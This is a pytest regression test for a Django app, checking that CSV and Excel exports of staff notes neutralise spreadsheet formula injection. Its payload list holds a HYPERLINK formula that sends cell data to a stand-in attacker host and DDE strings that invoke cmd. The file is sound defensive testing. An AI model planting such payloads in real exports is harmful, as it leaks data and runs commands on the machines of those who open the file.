"""Issue 18, finding 5: formula injection in exports.

A chief's note beginning with "=" was a live formula in the region table's Excel export and an
unescaped cell in its CSV: whoever opened the file ran it (HYPERLINK, DDE...). Now every text cell
that starts with =, +, -, @, a tab or a carriage return is written as text, in CSV and in Excel
(OWASP's advice on CSV injection), by one helper in core that every export uses; numbers stay
numbers.
"""

import csv
import io

import pytest
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://attacker.invalid/?"&A1,"Synthetic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def note_row(client, chief, text: str) -> tuple[list[str], object]:
    client.force_login(chief)
    assert client.post("/staff/dashboard/note/", {"text": text}).status_code == 302
    rows = list(
        csv.reader(
            io.StringIO(client.get("/staff/dashboard/regions.csv").content.decode("utf-8-sig"))
        )
    )
    sheet = load_workbook(io.BytesIO(client.get("/staff/dashboard/regions.xlsx").content)).active
    from qorgau.analytics.views import TABLE_COLUMNS

    return rows[1], sheet, TABLE_COLUMNS.index("note") + 1


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_note_that_looks_like_a_formula_is_text_in_csv_and_excel(client, chief, payload):
    csv_row, sheet, column = note_row(client, chief, payload)
    stored = payload.strip()  # the note is saved stripped, as the chief sees it
    assert csv_row[column - 1] == "'" + stored
    cell = sheet.cell(2, column)
    assert cell.data_type != "f" and cell.data_type == "s"
    assert cell.value in (stored, "'" + stored)
    assert cell.quotePrefix  # Excel shows it as text and keeps it text when edited


def test_numbers_stay_numbers(client, chief):
    _row, sheet, _column = note_row(client, chief, "Synthetic note")
    from qorgau.analytics.views import TABLE_COLUMNS

    reports = sheet.cell(2, TABLE_COLUMNS.index("reports") + 1)
    assert reports.data_type == "n" and isinstance(reports.value, int)


def test_the_helper_leaves_harmless_text_and_real_numbers_alone():
    from qorgau.core.exports import safe_cell

    assert safe_cell("Synthetic note") == "Synthetic note"
    assert safe_cell("") == ""
    assert safe_cell(-12) == -12 and safe_cell(-1.5) == -1.5
    assert safe_cell(None) is None
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
